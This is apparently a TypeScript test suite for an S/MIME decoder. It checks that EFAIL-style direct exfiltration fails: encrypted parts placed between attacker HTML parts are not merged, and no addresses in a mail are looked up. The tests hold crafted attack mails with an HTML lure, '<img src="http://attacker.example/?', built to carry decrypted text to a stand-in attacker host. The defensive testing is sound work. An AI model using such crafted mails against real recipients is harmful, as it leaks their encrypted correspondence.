import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import dns from 'node:dns';
import net from 'node:net';
import { describe, it, mock } from 'node:test';
import { encodeDetachedSignature, encodeEnvelopedData, encodeSignedData } from '../../src/cms/index.ts';
import { decode } from '../../src/smime/index.ts';
import { alice, base64, bob, cmsMail, entity, multipartSigned, options } from './support.ts';

const secret = 'the secret order';
const lure = '<img src="http://attacker.example/?';
const recipients = [{ certificate: alice.certificate }];
const encrypted = encodeEnvelopedData(entity, { recipients });

/** A mail with the encrypted part between two of the attacker's. */
const sandwich = Buffer.from(
  'From: mallory@example.net\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n' +
    `--m\r\nContent-Type: text/html\r\n\r\n${lure}\r\n` +
    `--m\r\nContent-Type: application/pkcs7-mime; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(encrypted)}\r\n` +
    '--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n',
);

/** The decoded octets never hold both what was secret and what the attacker put around it. */
async function isApart(mail: Buffer): Promise<Awaited<ReturnType<typeof decode>>> {
  const result = await decode(mail, options);
  const text = result.content?.toString('latin1') ?? '';
  assert.ok(!(text.includes(secret) && text.includes('attacker.example')), 'the parts were merged');
  return result;
}

describe('S2: EFAIL, direct exfiltration', () => {
  it('an encrypted part between others is not decrypted into them', async () => {
    const { verdict, content } = await isApart(sandwich);
    assert.deepEqual(verdict.layers, []);
    assert.equal(verdict.encrypted, false);
    assert.ok(content?.equals(sandwich));
  });

  it('what stands around the object in its own body is no part of the content', async () => {
    const mail = cmsMail(encrypted).toString('latin1');
    const junk = `${lure}\r\n`;
    for (const changed of [mail.replace('\r\n\r\n', `\r\n\r\n${junk}`), `${mail}${junk}`]) {
      const { verdict } = await isApart(Buffer.from(changed, 'latin1'));
      if (verdict.status === 'ok') assert.equal(verdict.content?.octets, entity.length);
    }
  });

  it('what stands around the signed part of a multipart/signed is no part of the content', async () => {
    const digest = createHash('sha256').update(cmsMail(encrypted)).digest();
    const signature = encodeDetachedSignature(new Map([['sha256', digest]]), { signers: [bob] });
    const mail = multipartSigned(
      cmsMail(encrypted),
      signature,
      `--b\r\nContent-Type: text/html\r\n\r\n${lure}\r\n`,
    );
    const text = mail.toString('latin1').replace('\r\n\r\n--b', `\r\n\r\n${lure}\r\n--b`);
    const { content, verdict } = await isApart(Buffer.from(`${text}${lure}`, 'latin1'));
    assert.equal(verdict.signature, 'valid');
    assert.ok(content?.equals(entity));
  });

  it('a second object after the first is not part of the content', async () => {
    const second = encodeEnvelopedData(Buffer.from(`Content-Type: text/html\r\n\r\n${lure}`), { recipients });
    const { verdict } = await isApart(Buffer.concat([encrypted, second]));
    assert.equal(verdict.error?.code, 'asn1-malformed');
  });

  it('the layers are reported from the outside in, each with its own facts', async () => {
    const twice = encodeEnvelopedData(cmsMail(encodeSignedData(entity, { signers: [bob] })), { recipients });
    const { verdict } = await isApart(twice);
    assert.deepEqual(
      verdict.layers.map(({ type }) => type),
      ['enveloped-data', 'signed-data'],
    );
    assert.ok(verdict.content?.octets === entity.length);
  });

  it('no address in a mail is ever looked up or connected to', async (context) => {
    const html = Buffer.from(
      'Content-Type: text/html\r\nContent-Base: http://attacker.example/\r\n\r\n<img src="http://attacker.example/x"><link href="http://attacker.example/y">',
    );
    const connect = mock.method(net.Socket.prototype, 'connect', () => assert.fail('a connection'));
    const lookup = mock.method(dns, 'lookup', () => assert.fail('a look-up'));
    context.after(() => mock.restoreAll());
    for (const inner of [html, encodeSignedData(html, { signers: [bob] })]) {
      const { verdict } = await decode(encodeEnvelopedData(inner, { recipients }), options);
      assert.equal(verdict.status, 'ok');
    }
    await new Promise((resolve) => setImmediate(resolve));
    assert.equal(connect.mock.callCount() + lookup.mock.callCount(), 0);
  });
});
